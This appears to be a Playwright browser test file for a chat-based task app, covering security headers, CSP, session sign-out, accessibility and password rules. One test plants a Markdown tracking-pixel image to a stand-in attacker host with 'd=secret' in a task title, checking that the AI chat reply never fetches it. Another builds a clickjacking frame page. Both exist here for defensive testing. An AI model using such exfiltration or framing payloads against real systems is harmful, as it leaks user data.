import type { Page } from "@playwright/test";
import axe from "axe-core";
import { PASSWORD, conversationLog, createTask, expect, say, signUpInPage, test } from "./helpers";

// Issue #15, in the browser: the pages' security headers hold with no console error (the fixture
// fails a test on any, CSP violations included), and no remote image in a reply is ever fetched.

test("every page sends its security headers and runs under its CSP without a console error", async ({ page }) => {
  const pages = ["/sign-in", "/sign-up"];
  for (const path of pages) {
    const res = await page.goto(path);
    const headers = res!.headers();
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    await expect(page.getByRole("button", { name: /Sign (in|up)/ })).toBeVisible();
  }
  await signUpInPage(page);
  for (const path of ["/chat", "/tasks", "/chatkit"]) {
    const res = await page.goto(path);
    const headers = res!.headers();
    expect(headers["content-security-policy"]).toMatch(/script-src 'self' 'nonce-[^']+'/);
    expect(headers["referrer-policy"]).toBeTruthy();
    expect(headers["permissions-policy"]).toBeTruthy();
    await expect(page.getByRole("heading").first()).toBeVisible();
  }
  // The chat works under the policy: its lazily loaded chunks and the stream.
  await page.goto("/chat");
  await say(page, "add a task to water the plants");
  await expect(
    conversationLog(page)
      .getByRole("listitem")
      .filter({ hasText: /Added task #\d+ · Water the plants/ }),
  ).toBeVisible();
});

test("a page cannot be framed by another site", async ({ page, consoleErrors }) => {
  consoleErrors.allow(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
  await page.goto("/sign-in");
  const signIn = page.url();
  await page.route("https://framer.example/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><title>framer</title><iframe title="victim" src="${signIn}"></iframe>`,
    }),
  );
  await page.goto("https://framer.example/");
  // Chromium replaces a frame its CSP refuses with an error page.
  await expect.poll(() => page.frames().map((f) => f.url())).toContain("chrome-error://chromewebdata/");
  await expect(page.frameLocator("iframe").getByRole("button", { name: "Sign in" })).toHaveCount(0);
});

test("a remote image in a reply is shown as its link text and never requested", async ({ page, request }) => {
  let requests = 0;
  await page.context().route("https://images.evil.example/**", (route) => {
    requests += 1;
    return route.fulfill({ contentType: "image/png", body: Buffer.alloc(0) });
  });
  const user = await signUpInPage(page);
  await createTask(request, user, {
    title: "Quarterly report ![tracking pixel](https://images.evil.example/p.png?d=secret)",
  });
  await page.goto("/chat");
  await say(page, "what's still pending?");
  const log = conversationLog(page);
  // The reply (not the tool card, which shows the title as plain text) renders the Markdown.
  const reply = log.getByRole("listitem").filter({ hasText: /You have 1 pending task/ });
  await expect(reply.getByRole("list")).toBeVisible();
  await expect(reply.getByText("tracking pixel", { exact: true })).toBeVisible();
  await expect(log.locator("img")).toHaveCount(0);
  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
  await page.reload();
  await expect(reply.getByText("tracking pixel", { exact: true })).toBeVisible();
  await expect(log.locator("img")).toHaveCount(0);
  expect(requests).toBe(0);
});

async function axeViolations(page: Page): Promise<string[]> {
  // Injected through the DevTools protocol, which the page's CSP does not govern.
  await page.evaluate(axe.source);
  return page.evaluate(async () => {
    const w = window as unknown as { axe: typeof axe };
    const result = await w.axe.run(document, {
      runOnly: { type: "tag", values: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"] },
    });
    return result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
  });
}

test("the Sessions page lists devices, signs one out, then everywhere", async ({ page, request }) => {
  const user = await signUpInPage(page);
  const login = await request.post("/api/auth/login", {
    data: { email: user.email, password: PASSWORD },
    headers: { "user-agent": "curl/8.5.0" },
  });
  const script = ((await login.json()) as { token: string }).token;
  await page.goto("/chat");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Sessions" }).click();
  await expect(page).toHaveURL(/\/sessions$/);
  const list = page.getByRole("list", { name: "Signed-in sessions" });
  await expect(list.getByRole("listitem")).toHaveCount(2); // the page (its sign-up) and curl
  await expect(list.getByRole("listitem").filter({ hasText: "This device" })).toHaveCount(1);
  for (const scheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    expect(await axeViolations(page)).toEqual([]);
  }

  const me = (token: string) => request.get("/api/me", { headers: { authorization: `Bearer ${token}` } });
  expect((await me(script)).status()).toBe(200);
  const curl = list.getByRole("listitem").filter({ hasText: "curl" });
  await curl.getByRole("button", { name: /^Sign out curl/ }).focus();
  await page.keyboard.press("Enter");
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await expect(list.getByRole("listitem").filter({ hasText: "This device" })).toHaveCount(1);
  expect((await me(script)).status()).toBe(401);

  await page.getByRole("button", { name: "Sign out everywhere" }).click();
  await expect(page).toHaveURL(/\/sign-in$/);
  expect((await me(user.token)).status()).toBe(401);
  await page.goto("/sessions");
  await expect(page).toHaveURL(/\/sign-in$/);
});

test("the sign-up form shows why a password is refused", async ({ page, consoleErrors }) => {
  consoleErrors.allow(/status of 400/);
  await page.goto("/sign-up");
  await page.getByLabel("Name").fill("Weak Walter");
  await page.getByLabel("Email").fill(`weak-${Date.now()}@example.com`);
  await page.getByLabel("Password").fill("password12");
  await page.getByRole("button", { name: "Sign up" }).click();
  await expect(page.getByRole("alert").filter({ hasText: /commonly used password/i })).toBeVisible();
  await expect(page).toHaveURL(/\/sign-up$/);
});
